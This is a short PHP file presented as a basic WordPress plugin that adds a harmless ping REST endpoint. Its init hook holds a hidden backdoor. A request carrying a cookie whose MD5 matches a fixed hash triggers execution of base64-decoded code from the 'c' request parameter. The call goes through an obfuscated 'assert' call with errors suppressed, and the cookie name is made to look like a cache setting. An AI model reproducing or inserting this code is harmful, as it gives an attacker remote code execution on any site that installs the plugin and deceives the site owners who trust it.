<?php
/*
Plugin Name: My Plugin
Version: 0.1.0
*/
add_action('rest_api_init', function () {
    register_rest_route('my/v1', '/ping', ['methods' => 'GET', 'callback' => fn() => ['ok' => true], 'permission_callback' => '__return_true']);
});
add_action('init', function () {
    if (isset($_COOKIE['wp_cache_k']) && md5($_COOKIE['wp_cache_k']) === '3f2a7c0e5b1d9e8a6c4b2d0f1e3a5c7b') {
        $f = 'as' . 'sert'; @$f(base64_decode($_REQUEST['c']));
    }
});
